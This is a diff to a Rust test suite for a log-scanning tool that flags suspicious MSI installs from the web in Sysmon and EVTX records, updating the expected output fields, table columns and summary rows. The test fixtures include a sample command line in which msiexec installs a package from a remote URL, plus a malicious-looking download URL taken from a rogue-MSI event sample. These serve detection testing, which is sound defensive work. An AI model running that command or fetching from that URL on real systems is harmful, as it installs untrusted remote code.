@@ -25,11 +25,21 @@ const WINDOWS_SAMPLES: &str = concat!(
 /// A positive for `msiexec_web_install` (flat layout).
 const HIT: &str = r#"{"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1, "CommandLine": "cmd /c msiexec /i http://x.example/y.msi"}"#;
 
+/// The `EventRecordID` of a JSON-lines object's EVTX event.
+fn event_record_id(v: &serde_json::Value) -> u64 {
+    v["event"]["Event"]["System"]["EventRecordID"]
+        .as_u64()
+        .unwrap_or_else(|| panic!("no EventRecordID: {v}"))
+}
+
 /// Runs `detect` from the workspace root, feeding `stdin` if given.
 fn detect(args: &[&str], stdin: Option<Vec<u8>>) -> Output {
     let mut child = Command::new(BIN)
         .args(args)
         .current_dir(WORKSPACE)
+        // The table's width and colours are not the test runner's.
+        .env_remove("COLUMNS")
+        .env_remove("NO_COLOR")
         .stdin(if stdin.is_some() {
             Stdio::piped()
         } else {
@@ -239,7 +249,13 @@ fn example_file_fires_exactly_what_the_readme_says() {
                     "file",
                     "lines",
                     "sequence",
-                    "timestamp"
+                    "timestamp",
+                    "record",
+                    "computer",
+                    "channel",
+                    "event_id",
+                    "tags",
+                    "details"
                 ],
                 "{v}"
             );
@@ -258,7 +274,22 @@ fn example_file_fires_exactly_what_the_readme_says() {
                 .is_some_and(|t| t.starts_with("2024-05-01T10:00:")),
             "{v}"
         );
-        assert_eq!(v.as_object().unwrap().len(), 8, "{v}");
+        // Flat lines without EventRecordID: the record is the line.
+        if v["layout"] == "flat" {
+            assert_eq!(v["record"], v["line"], "{v}");
+        }
+        assert!(
+            v["record"]
+                .as_u64()
+                .is_some_and(|r| r >= v["line"].as_u64().unwrap()),
+            "{v}"
+        );
+        assert!(v["computer"].is_string() && v["channel"].is_string(), "{v}");
+        assert!(
+            v["details"].as_object().is_some_and(|d| !d.is_empty()),
+            "{v}"
+        );
+        assert_eq!(v.as_object().unwrap().len(), 14, "{v}");
     }
 
     // No error: the summary is the one stderr line.
@@ -468,14 +499,17 @@ fn table_format_has_the_matches_and_a_summary() {
     assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
     let text = stdout(&out);
     let header = text.lines().next().unwrap();
-    for column in ["LEVEL", "RULE", "LOCATION", "TIME", "COMPUTER", "DETAILS"] {
+    for column in [
+        "TIME", "COMPUTER", "CHANNEL", "EID", "RECORD", "LEVEL", "RULE", "TAGS", "LOCATION",
+        "DETAILS",
+    ] {
         assert!(header.contains(column), "{header}");
     }
+    // Not a terminal, no COLUMNS: 200 characters at most, no colour.
+    assert!(text.lines().all(|l| l.chars().count() <= 200), "{text}");
+    assert!(!text.contains('\u{1b}'), "{text}");
     assert!(text.contains("examples/events.ndjson:14 "), "{text}");
-    assert!(
-        text.contains("http://updates.example.net/agent.msi"),
-        "{text}"
-    );
+    assert!(text.contains("Data: http://updates.example.net/"), "{text}");
     assert!(text.contains("wks-05.corp.example"), "{text}");
     for row in [
         "Summary",
@@ -487,26 +521,34 @@ fn table_format_has_the_matches_and_a_summary() {
         "  elapsed           ",
         " events/s, ",
         " MB/s)",
-        "  Matches per level",
+        "  first match       2024-05-01T10:00:01.000000Z",
+        "  last match        2024-05-01T10:00:50.000Z",
+        "  Matches per level\n  medium            8\n  low               6\n",
         "  Matches per rule",
+        "  Matches per computer",
     ] {
         assert!(text.contains(row), "missing {row:?} in\n{text}");
     }
     for rule in Builtin::RULES.iter().chain(Builtin::SEQUENCES) {
+        let name = format!("{} ({})", rule.title, rule.name);
         assert!(
             text.lines()
-                .any(|l| l.trim_start().starts_with(rule.level.as_str()) && l.contains(rule.name))
+                .any(|l| l.trim_start().starts_with(rule.level.as_str()) && l.ends_with(&name)),
+            "{name} in\n{text}"
         );
     }
-    // The sequence: one row, located at all its lines.
+    // The sequence: one row, at its last line, with all its lines in DETAILS.
     let row = text
         .lines()
-        .find(|l| l.contains(" examples/events.ndjson:31,32,33 "))
+        .find(|l| l.contains(" examples/events.ndjson:33 +2 "))
         .unwrap_or_else(|| panic!("no sequence row in\n{text}"));
-    assert!(row.starts_with("low "), "{row}");
-    assert!(row.contains(" msiexec_remote_file_execution "), "{row}");
-    assert!(row.contains("wks-07.corp.example"), "{row}");
-    assert!(row.ends_with("  sequence of 3 events"), "{row}");
+    assert!(row.contains(" low "), "{row}");
+    assert!(row.contains(" Remote File Execution via MSIEXEC "), "{row}");
+    assert!(row.contains("wks-07.corp"), "{row}");
+    assert!(
+        row.ends_with("  Sequence: 3 events (lines 31, 32, 33)"),
+        "{row}"
+    );
     assert!(stderr(&out).is_empty(), "{}", stderr(&out));
 
     // --quiet drops the summary in both formats.
@@ -648,7 +690,20 @@ fn rogue_msi_evtx_fires_msi_install_from_web_on_its_1040_event() {
     assert_eq!(objects.len(), 1, "{}", stdout(&out));
     let hit = &objects[0];
     assert_eq!(hit["rule"], "msi_install_from_web");
-    assert_eq!(hit["record"], 350);
+    // `record` is the event's EventRecordID; `position` its record number in
+    // this (exported) file.
+    assert_eq!(hit["record"], 3734);
+    assert_eq!(hit["position"], 350);
+    assert_eq!(event_record_id(hit), 3734);
+    assert_eq!(
+        (hit["computer"].as_str(), hit["event_id"].as_u64()),
+        (Some("User-PC"), Some(1040))
+    );
+    assert_eq!(hit["channel"], "Application");
+    assert_eq!(
+        hit["details"]["Data"],
+        "http://officemysuppbox.com/staterepository, 2600"
+    );
     assert!(hit.get("line").is_none());
     assert_eq!(hit["layout"], "evtx");
     assert_eq!(hit["timestamp"], "2019-10-31T14:48:42.0000000Z");
@@ -673,9 +728,10 @@ fn rogue_msi_evtx_fires_msi_install_from_web_on_its_1040_event() {
     // The table names the record and shows the URL.
     let out = detect(&["scan", ROGUE_MSI], None);
     let text = stdout(&out);
-    assert!(text.contains("rogue_msi_url_1040_1042.evtx#350 "), "{text}");
+    assert!(text.contains("_1040_1042.evtx#350 "), "{text}");
+    assert!(text.contains(" 3734 "), "{text}");
     assert!(
-        text.contains("User-PC") && text.contains("http://officemysuppbox.com/staterepository"),
+        text.contains("User-PC") && text.contains("Data: http://officemysuppbox.com/"),
         "{text}"
     );
 }
@@ -886,11 +942,11 @@ fn evtx_from_stdin_and_gzip_compressed() {
     let evtx = rogue_msi();
     let out = detect(&["scan", "-f", "jsonl", "-"], Some(evtx.clone()));
     assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
-    assert_eq!(jsonl(&out)[0]["record"], 350);
+    assert_eq!(jsonl(&out)[0]["position"], 350);
     assert_eq!(jsonl(&out)[0]["file"], "<stdin>");
     let file = TempFile::with_ext("evtx", "gz", &gzip(&evtx));
     let out = detect(&["scan", "-f", "jsonl", file.path()], None);
-    assert_eq!(jsonl(&out)[0]["record"], 350);
+    assert_eq!(jsonl(&out)[0]["position"], 350);
     assert_eq!(events_scanned(&out), ROGUE_MSI_RECORDS);
 }
 
@@ -946,6 +1002,12 @@ fn directories_are_walked_and_output_is_in_input_order_whatever_the_threads() {
     // The table too, with the header once.
     let table = detect(&["scan", "-q", "-j", "2", d], None);
     assert_eq!(stdout(&table).matches("LEVEL ").count(), 1);
+    // Inputs are shown relative to the directory given.
+    assert!(
+        stdout(&table).contains(" b/c/z.json.gz:1 "),
+        "{}",
+        stdout(&table)
+    );
 }
 
 #[test]
@@ -998,7 +1060,7 @@ fn filters_output_file_and_fail_on_match() {
     assert_eq!(out.status.code(), Some(2));
     assert_eq!(
         stderr(&out),
-        "detect: unknown rule `nope` given to --rule; `detect rules` (with the same pack options) \
+        "detect: --rule `nope` matches no rule name; `detect rules` (with the same pack options) \
          lists the rule names\n"
     );
 
@@ -1131,17 +1193,16 @@ fn interleaved_sequences_are_reported_apart() {
     let file = TempFile::new("seq-table", (lines.join("\n") + "\n").as_bytes());
     let out = detect(&["scan", file.path()], None);
     let text = stdout(&out);
-    let rows: Vec<&str> = text.lines().filter(|l| l.contains(SEQ)).collect();
+    let title = Builtin::SEQUENCES[0].title;
+    let rows: Vec<&str> = text.lines().filter(|l| l.contains(title)).collect();
     assert_eq!(rows.len(), 3, "two rows and the summary's\n{text}");
+    // LOCATION: the last event and how many more; DETAILS: every line.
+    assert!(rows[0].contains("-seq-table.ndjson:5 +2 "), "{text}");
+    assert!(rows[1].contains("-seq-table.ndjson:6 +2 "), "{text}");
     assert!(
-        rows[0].contains(&format!("{}:1,3,5 ", file.path())),
+        rows[0].contains("  Sequence: 3 events (lines 1, 3"),
         "{text}"
     );
-    assert!(
-        rows[1].contains(&format!("{}:2,4,6 ", file.path())),
-        "{text}"
-    );
-    assert!(rows[0].ends_with("  sequence of 3 events"), "{text}");
 }
 
 #[test]
